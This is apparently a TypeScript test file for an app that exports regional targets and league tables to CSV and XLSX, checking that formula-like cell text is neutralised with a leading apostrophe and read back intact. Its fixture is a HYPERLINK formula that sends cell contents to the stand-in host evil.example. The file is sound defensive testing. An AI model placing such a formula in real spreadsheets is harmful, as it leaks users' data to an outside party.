import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Target } from '../core/types.ts';
import { leagueXlsx } from '../reports/leagueXlsx.ts';
import { csvFile, neutraliseFormula, unquoteCell } from './cells.ts';
import { readTargetFile, targetsCsv } from './targets.ts';
import { longTemplateCsv } from './templates.ts';
import { firstSheetRows } from './xlsx.ts';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';

describe('formula-like text in exported files', () => {
  it('gets a leading apostrophe when it starts with =, +, -, @, a tab or a carriage return', () => {
    for (const text of [EVIL, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ['西湖区', '', "'已有撇号", '1=1', '-3.5', '+2', '1e5'])
      expect(neutraliseFormula(text)).toBe(text);
  });

  it('loses exactly that apostrophe when read again, and no other', () => {
    for (const text of [EVIL, '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1'])
      expect(unquoteCell(neutraliseFormula(text))).toBe(text);
    expect(unquoteCell("'西湖区")).toBe("'西湖区");
    expect(unquoteCell("''=1")).toBe("''=1");
  });

  it('writes a CSV cell as text with its quotes doubled, numbers as they are', () => {
    expect(
      csvFile([
        ['地区', '数值'],
        [EVIL, '-3.5'],
      ]),
    ).toBe('\ufeff地区,数值\r\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")",-3.5\r\n');
    expect(longTemplateCsv().endsWith('\r\n')).toBe(true);
  });

  it('round-trips targets whose indicator and region names look like formulas, the numbers still numbers', async () => {
    const target: Target = {
      indicatorCode: 'fai',
      regionCode: '330106',
      year: 2025,
      kind: 'growth',
      value: -3.5,
      cmp: '>=',
      strength: 'must',
      trajectory: {
        granularity: 'quarter',
        checkpoints: [
          { month: 6, percent: 45 },
          { month: 12, percent: 100 },
        ],
      },
      source: '@政府工作报告',
      quote: null,
    };
    const csv = targetsCsv([{ indicator: '+自定义指标', region: EVIL, target }]);
    const line = csv.split('\r\n')[1] ?? '';
    expect(line.startsWith("'+自定义指标,\"'=HYPERLINK(")).toBe(true);
    expect(line).toContain(',2025,增速,-3.5,>=,确保,');
    const [read] = await readTargetFile(Buffer.from(csv), '目标.csv');
    expect(read).toMatchObject({
      indicator: '+自定义指标',
      region: EVIL,
      value: -3.5,
      year: 2025,
      source: '@政府工作报告',
    });
  });

  it('writes a league XLSX whose formula-like region name is text and whose figures are numbers, and reads it back', async () => {
    const buf = await leagueXlsx({
      indicator: '固定资产投资',
      unit: '亿元',
      period: '2025-06',
      by: 'value',
      rows: [
        {
          region: EVIL,
          value: -12.5,
          yoy: -3.2,
          rank: 1,
          rankOf: 1,
          rankChange: null,
        },
      ],
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const row = wb.worksheets[0]?.getRow(3);
    expect(row?.getCell(2).value).toBe(`'${EVIL}`);
    expect(row?.getCell(3).value).toBe(-12.5);
    expect(row?.getCell(4).value).toBe(-3.2);
    expect((await firstSheetRows(buf, '排位.xlsx'))[2]?.[1]).toBe(EVIL);
  });
});
